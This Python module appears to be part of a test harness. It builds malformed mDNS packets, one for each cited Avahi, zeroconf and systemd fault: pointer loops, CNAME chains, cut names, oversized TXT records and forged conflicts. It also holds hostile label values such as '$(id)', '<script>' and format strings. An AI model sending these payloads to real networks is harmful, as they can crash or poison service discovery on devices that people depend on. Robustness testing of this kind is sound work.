"""The attacks of the hostility axis: one for each public fault of an mDNS stack since 2017, written from the RFCs and the public reports.

Each makes the UDP payload number i, so that no two of 10,000 are alike where that matters.
"""

import random
import struct
from dataclasses import dataclass

import dns
from dns import A, AAAA, ANY, CNAME, NSEC, PTR, SRV, TXT, Question, Record
from trial import TYPE

DNAME, LOCAL, SERVICES = 39, (b"local",), dns.dotted("_services._dns-sd._udp.local")
ANCHOR, ANCHOR_HOST = (b"Anchor", *TYPE), (b"anchor-host", b"local")
OWN_HOST, OWN_SERVICE = (b"victim", b"local"), (b"Victim", *TYPE)
MOST = 8900


@dataclass
class Attack:
    """`make` gives the payload number i. `sender`: "peer", "forged" (a new address each), "other port" or "inside" (another program of
    the subject's host). `never` is a name that a browser must not tell. `gap` is the time between the first two. `variants`: how many there are, if fewer than are sent."""

    number: int
    name: str
    after: str
    make: object
    sender: str = "peer"
    never: str = ""
    gap: float = 0
    variants: int = 0

    def payloads(self, count):
        """So many payloads."""
        ready = [self.make(i) for i in range(self.variants)]
        for i in range(count):
            yield ready[i % self.variants] if ready else self.make(i)


def text(i):
    return b"%06d" % i


def aliases(i):
    hosts = [(b"alias%d-%d" % (i, j), b"local") for j in range(200)]
    to_itself = [Record(name, CNAME, name) for name in (ANCHOR_HOST, ANCHOR, OWN_HOST, hosts[0])]
    loop = [Record(ANCHOR_HOST, CNAME, hosts[0]), Record(hosts[0], CNAME, hosts[1]), Record(hosts[1], CNAME, hosts[0])]
    chain = [Record(ANCHOR_HOST, CNAME, hosts[0]), *(Record(one, CNAME, other) for one, other in zip(hosts, hosts[1:]))]
    return dns.encoded(dns.response(*(to_itself, loop, chain)[i % 3]))


def short_alias(i):
    return dns.encoded(dns.response(*(Record(name, CNAME, (b"short" + text(i), b"local"), i % 2) for name in (ANCHOR_HOST, ANCHOR))))


def unasked_aliases(i):
    return dns.encoded(dns.response(*(Record(name, CNAME, (b"other" + text(i), *TYPE), 120, True) for name in (TYPE, ANCHOR, SERVICES))))


def alias_above(i):
    names = (SERVICES, LOCAL, OWN_HOST, TYPE)
    target = (b"elsewhere" + text(i), b"local")
    return dns.encoded(dns.response(*(Record(name, CNAME if i % 2 else DNAME, target if i % 2 else dns.name_bytes(target, {}, None))
                                      for name in names)))


def header(answers, questions=0, flags=0x8400):
    return struct.pack("!6H", 0, flags, questions, answers, 0, 0)


def fields(kind, ttl, data, cls=1):
    return struct.pack("!HHIH", kind, cls, ttl, len(data)) + data


def pointers(i):
    """1,500 pointers, each to the one before, the one after, itself, or into the header."""
    at = 12 + 1 + 10  # a root name, then the data of a record that nobody knows
    count = 1500
    steps = (lambda n: at + 2 * max(0, n - 1), lambda n: at + 2 * min(count - 1, n + 1), lambda n: at + 2 * n, lambda n: n % 12)
    chain = b"".join(struct.pack("!H", 0xC000 | steps[i % 4](n)) for n in range(count))
    last = struct.pack("!H", 0xC000 | at + 2 * (count - 1 - i // 4 % 7))
    return header(2) + b"\0" + fields(65400, 120, chain) + last + fields(PTR, 120, last)


def cut_name(i):
    """The name in the first record's data runs past it. By its length the next record tells Right; who reads on tells Wrong."""
    def pointer(label):
        return b"\xc0\x0c" + fields(PTR, 4500, bytes([len(label)]) + label + b"\xc0\x0c")

    right = pointer(b"Right" + text(i))
    inside = b"xxxx" + right
    name = dns.name_bytes(TYPE, {}, None)
    cut = name + struct.pack("!HHIH", PTR, 1, 4500, 5) + bytes([len(inside)]) + inside
    return header(2) + cut + b"\0" + pointer(b"Wrong")


def broken_nsec(i):
    name = (b"Between" + text(i), *TYPE)
    bitmap = (b"\0\x21" + b"\xff" * 33, b"\0\0", b"\1\4\0", b"\0\x04\xff", b"")[i % 5]
    bad = Record(name, NSEC, set())
    good = dns.encoded(dns.response(Record(TYPE, PTR, name, 4500)))
    written = dns.name_bytes(bad.name, {}, None)
    bad = written + fields(NSEC, 120, written + bitmap)
    more = dns.name_bytes(name, {}, None) + fields(TXT, 4500, b"\x03a=b")
    return header(3) + good[12:] + bad + more


def truncated_query(i):
    return dns.encoded(dns.query(Question(TYPE, PTR), known=[Record(TYPE, PTR, (b"Known" + text(i), *TYPE), 4500)], truncated=True))


def unique_names(i):
    """100 instances that nobody has seen: 10,000 of these make a million names."""
    first = dns.name_bytes(TYPE, {}, None)
    rest = fields(PTR, 4500, b"\x0a")[:-1]
    parts = [(first if n == 0 else b"\xc0\x0c") + rest[:8] + struct.pack("!H", 11) + b"\x08%08x\xc0\x0c" % (100 * i + n)
             for n in range(100)]
    return header(100) + b"".join(parts)


def same_fault(i):
    """A record that is longer than the message, with contents that are always others."""
    noise = random.Random(i).randbytes(1200)
    return header(1) + dns.name_bytes((b"fault" + text(i), *TYPE), {}, None) + struct.pack("!HHIH", TXT, 1, 120, 4000) + noise


def odd_pointers(i):
    n = text(i)
    targets = ((b"Other" + n, b"_else", b"_tcp", b"local"), (b"Other" + n, b"_conform", b"_tcp", b"example", b"org"),
               (b"host" + n, b"local"), TYPE, LOCAL, (), (b"a" * 63,) * 3)
    return dns.encoded(dns.response(*(Record(TYPE, PTR, target, 4500) for target in targets)))


def goodbyes(i):
    host = Record(ANCHOR_HOST, A, f"10.77.{1 + i // 250 % 250}.{1 + i % 250}", 120, True)
    return dns.encoded(dns.response(Record(TYPE, PTR, ANCHOR, 0), Record(ANCHOR, SRV, (0, 0, 80, ANCHOR_HOST), 0, True), host))


def denials(i):
    other = (b"rival" + text(i), b"local")
    return dns.encoded(dns.response(
        Record(OWN_SERVICE, SRV, (0, 0, 9, other), 120, True), Record(OWN_SERVICE, TXT, b"\x07n=" + b"%05d" % (i % 100000), 4500, True),
        Record(OWN_HOST, A, f"10.77.9.{1 + i % 250}", 120, True), Record(OWN_HOST, AAAA, f"fd00::{i:x}", 120, True)))


def legacy_any(i):
    return dns.encoded(dns.query(*(Question(name, ANY) for name in (TYPE, OWN_SERVICE, OWN_HOST, SERVICES)), id=i % 65536))


def stranger(i):
    name = (b"Stranger", *TYPE)
    host = (b"stranger" + text(i), b"local")
    return dns.encoded(dns.response(Record(TYPE, PTR, name, 4500), Record(name, SRV, (0, 0, 80, host), 120, True),
                                    Record(name, TXT, b"\0", 4500, True), Record(host, A, "10.77.0.2", 120, True)))


def long_text(i):
    strings = (b"\0" * MOST, b"\x01x" * (MOST // 2), b"\x05k=" + text(i)[:3] + b"\x04k=\0\0" * (MOST // 5), b"\xff" + b"=" * 255,
               b"\xff" + b"k" * (i % 200))
    name = (b"Text" + text(i % 50), *TYPE)
    return dns.encoded(dns.response(Record(TYPE, PTR, name, 4500), Record(name, TXT, strings[i % 5][:MOST - 100], 4500, True)))


def hostile_labels(i):
    n = text(i % 200)
    labels = (b"\0" * 57 + n, b"a.b\\.c" + n, "\u202egnp\u2066\u200b".encode() + n, "é".encode()[:1] + n, b"\x1b[2J\x07" + n,
              b"<script>" + n, b"%s%n$(id)" + n, b"\xff\xfe" + n)
    return dns.encoded(dns.response(*(Record(TYPE, PTR, (label, *TYPE), 4500) for label in labels)))


ALL = [
    Attack(1, "CNAME to itself, in a loop, in a chain of 200", "Avahi CVE-2026-24401", aliases, variants=600),
    Attack(2, "CNAME of 0 or 1 s for a watched name", "Avahi CVE-2025-68468", short_alias),
    Attack(3, "two unasked CNAMEs two seconds apart", "Avahi CVE-2025-68471", unasked_aliases, gap=2),
    Attack(4, "CNAME or DNAME at the list of types, local, our host", "avahi#684, systemd#30392", alias_above),
    Attack(5, "1,500 chained pointers in names", "zeroconf CVE-2026-47180", pointers, variants=28),
    Attack(6, "a length that ends inside a name", "zeroconf CVE-2026-48487", cut_name, never="Wrong"),
    Attack(7, "a broken NSEC between good records", "mdns-sd#492, home-assistant#53668", broken_nsec),
    Attack(8, "truncated queries of 10,000 forged senders", "zeroconf CVE-2026-47184", truncated_query, sender="forged"),
    Attack(9, "a million names beside a true service", "zeroconf CVE-2026-48045", unique_names),
    Attack(10, "the same fault with other contents", "zeroconf CVE-2026-47183", same_fault),
    Attack(11, "PTR to another type, domain, host, itself", "avahi#679", odd_pointers),
    Attack(12, "forged goodbyes and cache flushes", "RFC 6762 §21", goodbyes),
    Attack(13, "a storm of denials and conflicts", "RFC 6762 §9", denials),
    Attack(14, "ANY asked from another port", "Avahi CVE-2017-6519", legacy_any, sender="other port"),
    Attack(15, "responses from another port", "RFC 6762 §6", stranger, sender="other port", never="Stranger"),
    Attack(16, "TXT of 8,900 bytes, empty keys, NULs", "Avahi CVE-2023-38469", long_text),
    Attack(17, "labels of NULs, dots, escapes, half characters", "croc CVE-2023-43620", hostile_labels),
    Attack(18, "denials by another program of the same host", "design", denials, sender="inside"),
]
NOT_ON_THE_WIRE = {
    19: ("predictable numbers in unicast queries", "Avahi CVE-2024-52615, -52616", "no subject asks unicast DNS here"),
    20: ("a hostile avahi-daemon on the bus", "–", "no packet: unit tests of the Avahi backend"),
}
